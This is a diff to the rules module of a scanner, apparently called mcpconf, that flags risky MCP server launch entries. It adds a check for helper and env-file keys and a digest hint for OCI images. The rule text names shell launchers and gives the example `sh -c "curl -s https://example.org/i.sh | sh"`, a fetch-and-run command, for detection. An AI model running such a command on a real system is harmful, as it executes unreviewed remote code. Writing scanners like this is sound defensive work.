@@ -2,15 +2,20 @@
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator
 
+from mcpconf.errors import Where
 from mcpconf.model.asked import UNPINNED
 from mcpconf.model.finding import Severity
 from mcpconf.packages import recognise_entry
 from mcpconf.packages.paths import paths_in
 from mcpconf.permissions import shell_launcher, too_broad
+from mcpconf.reconcile.places import line_of
 from mcpconf.rules.frame import Case, Evidence, Hit, Rule
 from mcpconf.secrets import find
+
+_HELPER = re.compile(r"(?:http_?)?headers_?helper|env_?file", re.IGNORECASE)
 
 
 def _hit(case: Case, message: str, **more: str) -> Hit:
@@ -32,9 +37,11 @@ def _unpinned(evidence: Evidence) -> Iterator[Hit]:
             continue
         asked = f"asks for `{launched.version}`" if launched.version else "asks for no version"
         message = f"`{case.name}` {asked} of {launched.identity}, so what runs can change by itself"
+        image = launched.package is not None and launched.package.ecosystem == "oci"
+        hint = 'a tag can be moved; give the digest as `hash: "sha256:..."`' if image else ""
         promised = case.server is None or case.server.version != UNPINNED
         severity: Severity | None = None if promised or required else "warning"
-        yield Hit(case.subject, case.address, message, where=case.where, severity=severity)
+        yield Hit(case.subject, case.address, message, hint, case.where, severity=severity)
 
 
 def _too_broad(evidence: Evidence) -> Iterator[Hit]:
@@ -51,6 +58,23 @@ def _shell(evidence: Evidence) -> Iterator[Hit]:
         reason = shell_launcher([str(value) for value in case.entry.argv])
         if reason:
             yield _hit(case, f"`{case.name}` starts a shell or interpreter: {reason}")
+
+
+def _helpers(evidence: Evidence) -> Iterator[Hit]:
+    """Keys of hosts that run a command for headers, or load variables from a file, beside what an entry is compared by."""
+    for entry in evidence.situation.observed.entries:
+        for key in entry.raw if isinstance(entry.raw, dict) else ():
+            if _HELPER.fullmatch(key):
+                message = (
+                    f"`{entry.address.server}` has `{key}`, by which the host runs or loads more than the entry says"
+                )
+                where = Where(entry.file.location.path, line_of(entry), pointer=str(entry.address))
+                yield Hit("observed", str(entry.address), message, "look at what it names, or remove the key", where)
+
+
+def _launched(evidence: Evidence) -> Iterator[Hit]:
+    yield from _shell(evidence)
+    yield from _helpers(evidence)
 
 
 def _literal_secret(evidence: Evidence) -> Iterator[Hit]:
@@ -87,8 +111,8 @@ RULES = (
         title="shell or interpreter as launcher",
         severity="error",
         threat="code injection, installer spoofing",
-        check=_shell,
-        what="A command line that hands text to a shell or interpreter: `sh -c`, `node -e`, `curl ... | sh`.",
+        check=_launched,
+        what="A command line that hands text to a shell or interpreter: `sh -c`, `node -e`, `curl ... | sh`. Also keys by which a host runs a helper or loads a file of variables.",
         why="The text is a program that nobody pinned or reviewed. Rogue entries written by malware look like this.",
         example='sh -c "curl -s https://example.org/i.sh | sh"',
         fix="start the program itself, with its arguments as a list",
